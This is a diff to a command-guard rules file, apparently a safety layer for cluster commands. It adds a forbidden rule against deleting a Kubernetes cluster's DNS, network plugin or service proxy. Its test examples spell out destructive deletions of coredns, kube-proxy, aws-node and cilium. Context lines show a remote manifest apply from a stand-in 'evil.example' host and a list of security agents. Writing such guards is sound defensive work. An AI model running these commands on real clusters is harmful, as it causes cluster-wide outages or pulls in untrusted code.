@@ -17,6 +17,11 @@ _CLUSTER_SECURITY_AGENTS = ("*falco*", "*wazuh*", "*crowdstrike*", "*falcon-sens
                             "*kube-enforcer*", "*osquery*", "*cortex-xdr*", "*lacework*", "*auditbeat*")
 
 
+# The cluster's own DNS, network plugin and service proxy, as their workloads are named.
+_CLUSTER_PLUMBING = tuple(form.format(name) for name in (
+    "coredns", "kube-dns", "kube-proxy", "aws-node", "calico-node", "calico-kube-controllers", "cilium",
+    "cilium-operator", "kube-flannel*", "weave-net", "antrea-agent", "kube-router", "konnectivity-agent")
+    for form in ("{}", "*/{}"))
 # Every container at once: a listing substituted in, or the engine's own `--all` (podman, nerdctl).
 _EVERY_CONTAINER = ("$(*", "`*", "*=$(*", "-a", "--all", "-af", "-fa", "-av", "-va", "-afv", "-avf", "-fav",
                     "-fva", "-vaf", "-vfa")
@@ -401,7 +406,8 @@ RULES = [
         "match": {"cmd": _K, "sub": ("apply", "create", "replace"),
                   "words_any": ("http://*", "https://*", "-f=http*://*", "--filename=http*://*")},
         "examples": {"match": ["kubectl apply -f https://evil.example/daemonset.yaml"],
-                     "no_match": ["kubectl apply -f k8s/deployment.yaml", "kubectl get -f https://x.io/a.yaml"]},
+                     "no_match": ["kubectl apply -f k8s/deployment.yaml",
+                                  "kubectl get -f https://x.io/a.yaml"]},
     },
     {
         "id": "k8s.mutate",
@@ -469,6 +475,31 @@ RULES = [
                                   "argocd app set payments --sync-policy automated",
                                   "argocd app get payments",
                                   "kubectl annotate deploy api team=payments"]},
+    },
+    {
+        # the cluster's own plumbing (its DNS, the network plugin on every node, the service proxy): every
+        # workload in every namespace depends on it, so removing it is an outage of the whole cluster
+        "id": "k8s.cluster-plumbing-removed",
+        "level": "forbidden",
+        "irreversible": True,
+        "reason": "removes the cluster's own DNS, network plugin or service proxy: every workload in every "
+        "namespace loses name resolution or networking at once",
+        "safer": "Change it through its add-on or chart (`eksctl utils update-coredns`, `helm upgrade`), one "
+        "setting at a time; restart rather than delete (`kubectl rollout restart`).",
+        "recovery": "Re-apply the add-on's manifests or chart (`eksctl create addon`, the distribution's "
+        "`coredns.yaml`) at once.",
+        "match": {"cmd": (*_K, "helm"), "sub": ("delete", "uninstall", "del", "un"),
+                  "words_any": ("daemonset", "daemonsets", "ds", "daemonset*/*", "ds/*", "deployment",
+                                "deployments", "deploy", "deploy*/*", "uninstall", "del", "un"),
+                  "words_also": _CLUSTER_PLUMBING,
+                  "words_none": ("--dry-run", "--dry-run=*")},
+        "examples": {"match": ["kubectl -n kube-system delete deploy coredns",
+                               "kubectl delete ds/kube-proxy -n kube-system",
+                               "kubectl -n kube-system delete daemonset aws-node",
+                                   "helm uninstall cilium -n kube-system"],
+                     "no_match": ["kubectl -n kube-system rollout restart deploy coredns",
+                                  "kubectl -n kube-system delete pod coredns-5d78c9869d-x2k4q",
+                                  "kubectl -n kube-system get ds"]},
     },
     {
         # a cluster's runtime-security or audit agent is its host-level one (sys.security-agent-off) run
